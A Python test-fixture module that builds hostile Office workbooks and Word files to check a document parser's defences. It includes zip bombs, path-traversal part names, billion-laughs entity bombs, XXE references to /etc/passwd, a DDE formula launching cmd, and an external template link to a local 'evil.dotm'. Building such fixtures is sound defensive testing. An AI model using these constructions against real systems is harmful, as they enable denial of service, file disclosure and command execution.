"""Hostile workbooks and Word files, made of the good form.

Here: one file each, named after what is wrong with it. Not here: PDF, web pages, text.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from sample import FIRST_OWN, Input, edited, member, parts, zipped

_SHEET, _BODY = "xl/worksheets/sheet1.xml", "word/document.xml"
_BOMB = ("BOMB", "MEMORY", "TIMEOUT", "TOO_BIG")
_FIRST = FIRST_OWN + 100


def office_inputs() -> Iterator[Input]:
    """The files."""
    yield from _containers(_FIRST)
    yield from _workbooks(_FIRST + 20)
    yield from _word_files(_FIRST + 60)


def _containers(n: int) -> Iterator[Input]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts("xlsx", n).items():
            with archive.open(name, "w", force_zip64=True) as part:
                part.write(data)
    yield Input("zip64.xlsx", "parts with 64-bit sizes", out.getvalue(), (n,))

    n += 1
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(_SHEET, parts("xlsx", n + 1)[_SHEET])
        for name, data in parts("xlsx", n).items():
            archive.writestr(name, data)
    yield Input(
        "same_part_twice.xlsx", "two parts of one name: only the last is the sheet", out.getvalue(), (n,), ("CORRUPT",)
    )

    n += 2
    yield Input("lying_size.xlsx", "200 MB that the directory calls ten bytes", _lying_size(n), (), (*_BOMB, "CORRUPT"))

    n += 1
    yield Input(
        "overlapping.xlsx",
        "thousands of parts that all inflate the same bytes",
        _overlapping(n),
        (n,),
        (*_BOMB, "CORRUPT"),
    )

    n += 1
    content = parts("xlsx", n) | {f"xl/x{k}.xml": b"<a/>" for k in range(6000)}
    yield Input("many_parts.xlsx", "six thousand parts", zipped(content), (), _BOMB)

    n += 1
    names = {
        "../../../../tmp/evil.xml": b"<a/>",
        "/etc/cron.d/evil": b"x",
        "C:\\evil.xml": b"<a/>",
        "xl/\x00.xml": b"<a/>",
    }
    yield Input(
        "paths.xlsx", "parts whose names leave the container", zipped(parts("xlsx", n) | names), (n,), ("CORRUPT",)
    )

    for name, encoding in (("utf16", "utf-16-le"), ("utf32", "utf-32-be"), ("utf7", "utf-7"), ("ebcdic", "cp037")):
        n += 1
        laughs = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10 if k else "ha" * 50}">' for k in range(9))
        word = parts("docx", n)[_BODY].decode()
        word = word.replace(
            'encoding="UTF-8"', f'encoding="{encoding.upper().removesuffix("-LE").removesuffix("-BE")}"'
        )
        word = word.replace("?>", f"?><!DOCTYPE d [{laughs}]>", 1).replace(
            "<w:body>", "<w:body><w:p><w:r><w:t>&l8;</w:t></w:r></w:p>"
        )
        ascii_word = word.encode("ascii", "xmlcharrefreplace").decode()
        head, rest = ascii_word.split("?>", 1)
        data = (
            (head + "?>").encode("ascii") + rest.replace("<", "+ADw-").replace("&l", "+ACY-l").encode()
            if encoding == "utf-7"
            else ascii_word.encode(encoding, "replace")
        )
        content = parts("docx", n) | {_BODY: data}
        yield Input(
            f"laughs_{name}.docx", f"an entity bomb written in {encoding}", zipped(content), (), (*_BOMB, "CORRUPT")
        )

    for kind, part in (("xlsx", _SHEET), ("docx", _BODY)):
        n += 1
        change = (b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">%p;<!ENTITY % p "x">]>')
        yield Input(
            f"doctype.{kind}",
            "a declaration of outside entities",
            edited(kind, n, part, change),
            (),
            (*_BOMB, "CORRUPT"),
        )


def _workbooks(n: int) -> Iterator[Input]:
    rows = b"".join(b'<row r="%d"/>' % k for k in range(100, 1_048_577))
    change = (b"</sheetData>", rows + b"</sheetData>")
    yield Input("empty_rows.xlsx", "a million rows without a cell", edited("xlsx", n, _SHEET, change), (n,), _BOMB)

    n += 1
    cells = b'<row r="30">' + b"<c/>" * 2_000_000 + b"</row></sheetData>"
    yield Input(
        "empty_cells.xlsx",
        "two million cells without a value",
        edited("xlsx", n, _SHEET, (b"</sheetData>", cells)),
        (n,),
        (*_BOMB, "CORRUPT"),
    )

    n += 1
    content = parts("xlsx", n)
    content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sharedStrings+xml"/></Types>',
    )
    namespace = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    content["xl/sharedStrings.xml"] = b'<sst xmlns="%s"><si><t>%s</t></si></sst>' % (namespace, b"A" * 10_000_000)
    cells = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (k, k) for k in range(30, 20_000))
    content[_SHEET] = content[_SHEET].replace(b"</sheetData>", cells + b"</sheetData>")
    yield Input("shared_string.xlsx", "one text of 10 MB in 20 000 cells", zipped(content), (), _BOMB)

    n += 1
    formula = b"<c r=\"C30\" t=\"str\"><f>cmd|'/c calc'!A1</f><v>=cmd|'/c calc'!A1</v></c></row></sheetData>"
    content = parts("xlsx", n)
    content[_SHEET] = content[_SHEET].replace(b"</sheetData>", b'<row r="30">' + formula)
    content["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="%s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' % namespace
    )
    yield Input("dde.xlsx", "a formula that starts a program, and an outside link", zipped(content), (n,))

    n += 1
    merges = b"<mergeCells>" + b'<mergeCell ref="A1:XFD1048576"/>' * 20_000 + b"</mergeCells></worksheet>"
    yield Input(
        "merges.xlsx",
        "the whole sheet merged 20 000 times",
        edited("xlsx", n, _SHEET, (b"</worksheet>", merges)),
        (n,),
        (*_BOMB, "CORRUPT"),
    )

    n += 1
    many = b"".join(b'<mergeCell ref="A%d:XFD%d"/>' % (k, k + 1) for k in range(1, 100_000, 3))
    merges = b"<mergeCells>" + many + b"</mergeCells></worksheet>"
    yield Input(
        "merged_rows.xlsx",
        "33 000 merged ranges as wide as the sheet",
        edited("xlsx", n, _SHEET, (b"</worksheet>", merges)),
        (n,),
        (*_BOMB, "CORRUPT"),
    )

    n += 1
    content = parts("xlsx", n)
    sheets = b"".join(b'<sheet name="S%d" sheetId="%d" r:id="rId1"/>' % (k, k) for k in range(1, 302))
    content["xl/workbook.xml"] = content["xl/workbook.xml"].replace(
        b'<sheet name="S1" sheetId="1" r:id="rId1"/>', sheets
    )
    yield Input("many_sheets.xlsx", "301 sheets", zipped(content), (), _BOMB)

    for name, value in (("nan", b"NaN"), ("inf", b"-Infinity"), ("1e400", b"1e400"), ("digits", b"9" * 5000)):
        n += 1
        data = edited("xlsx", n, _SHEET, (b"<v>171150.17</v>", b"<v>%s</v>" % value))
        yield Input(f"number_{name}.xlsx", f"a number of {value[:20].decode()}", data, (n,), ("CORRUPT",))

    for name, code in (
        ("long", "0." + "0" * 5000),
        ("brackets", "[" * 20_000),
        ("quotes", '"\\' * 20_000),
        ("date", "yyyy" * 5000),
    ):
        n += 1
        content = parts("xlsx", n)
        escaped = code.replace('"', "&quot;").encode()
        content["xl/styles.xml"] = (
            b'<styleSheet xmlns="%s"><numFmts count="1"><numFmt numFmtId="200" formatCode="%s"/></numFmts><fonts>'
            b"<font/></fonts><fills><fill/></fills><borders><border/></borders><cellStyleXfs><xf/></cellStyleXfs>"
            b'<cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>' % (namespace, escaped)
        )
        content["xl/_rels/workbook.xml.rels"] = content["xl/_rels/workbook.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"'
            b' Target="styles.xml"/></Relationships>',
        )
        content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(
            b"</Types>",
            b'<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            b'spreadsheetml.styles+xml"/></Types>',
        )
        content[_SHEET] = content[_SHEET].replace(b'<c r="D6">', b'<c r="D6" s="1">')
        yield Input(
            f"format_{name}.xlsx",
            f"a number format of {len(code)} signs",
            zipped(content),
            (n,),
            ("CORRUPT", "TOO_BIG"),
        )

    n += 1
    data = bytearray(member("good.xls"))
    data[-512:] = b"\xff" * 512
    yield Input(
        "tail.xls",
        "an old workbook whose last sector is noise",
        bytes(data),
        (),
        ("UNSUPPORTED", "CORRUPT", "TRUNCATED", "EMPTY", "NOT_A_FORM"),
    )


def _word_files(n: int) -> Iterator[Input]:
    content = parts("docx", n)
    content["word/chunk.html"] = b"<html><body>" + b"<p>chunk</p>" * 10 + b"</body></html>"
    content[_BODY] = content[_BODY].replace(b"<w:body>", b'<w:body><w:altChunk r:id="rId7" xmlns:r="r"/>')
    yield Input("chunk.docx", "a web page to be put in by Word", zipped(content), (n,))

    n += 1
    wide = (b"<w:tcPr/>", b'<w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>')
    yield Input("wide_cell.docx", "a cell over a thousand million columns", edited("docx", n, _BODY, wide), (n,), _BOMB)

    n += 1
    change = (b"<w:tbl>", b"<w:sdt><w:sdtContent>" * 5000 + b"<w:tbl>")
    data = edited("docx", n, _BODY, change, (b"</w:tbl>", b"</w:tbl>" + b"</w:sdtContent></w:sdt>" * 5000))
    yield Input("controls.docx", "content controls nested 5 000 deep", data, (n,), ("TOO_DEEP", "CORRUPT"))

    n += 1
    change = (
        b"<w:body>",
        b"<w:body><w:p>" + b"<w:ins>" * 240 + b"<w:r><w:t>x</w:t></w:r>" + b"</w:ins>" * 240 + b"</w:p>",
    )
    yield Input(
        "insertions.docx", "insertions nested 240 deep", edited("docx", n, _BODY, change), (n,), ("TOO_DEEP", "CORRUPT")
    )

    n += 1
    content = parts("docx", n)
    field = b'<w:p><w:fldSimple w:instr="INCLUDETEXT file:///etc/passwd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    content[_BODY] = content[_BODY].replace(b"<w:body>", b"<w:body>" + field)
    content["word/_rels/document.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
    )
    yield Input("template.docx", "a template and a text from elsewhere", zipped(content), (n,))

    n += 1
    rows = b"<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>" * 100_000
    yield Input(
        "merged_rows.docx",
        "a cell merged over a hundred thousand rows",
        edited("docx", n, _BODY, (b"</w:tbl>", rows + b"</w:tbl>")),
        (n,),
        _BOMB,
    )

    n += 1
    words = b"<w:r><w:t>x</w:t></w:r>" * 1_000_000
    yield Input(
        "runs.docx",
        "a paragraph of a million runs",
        edited("docx", n, _BODY, (b"<w:body>", b"<w:body><w:p>" + words + b"</w:p>")),
        (n,),
        _BOMB,
    )


def _lying_size(n: int) -> bytes:
    big = b"<worksheet>" + b" " * 200_000_000
    data = bytearray(zipped(parts("xlsx", n) | {_SHEET: big}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = -1
        while (at := data.find(signature, at + 1)) >= 0:
            if struct.unpack_from("<I", data, at + offset)[0] == len(big):
                struct.pack_into("<I", data, at + offset, 10)
    return bytes(data)


def _overlapping(n: int) -> bytes:
    """The form, and a directory in which 4 000 names point to one kernel of 4 MB."""
    content = parts("xlsx", n)
    kernel = zlib.compress(b"\0" * 4_000_000, 9)[2:-4]
    data = bytearray(zipped({**content, "k": b""}))
    end = data.rfind(b"PK\x05\x06")
    directory_at = struct.unpack_from("<I", data, end + 16)[0]
    directory = bytes(data[directory_at:end])
    del data[directory_at:]
    kernel_at = len(data)
    crc = zlib.crc32(b"\0" * 4_000_000)
    data += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(kernel), 4_000_000, 1, 0) + b"z" + kernel
    start = len(data)
    entries = len(content) + 1
    data += directory
    for k in range(4000):
        name = b"xl/media/%d.xml" % k
        data += (
            struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(kernel),
                4_000_000,
                len(name),
                0,
                0,
                0,
                0,
                0,
                kernel_at,
            )
            + name
        )
    entries += 4000
    data += struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, len(data) - start, start, 0)
    return bytes(data)
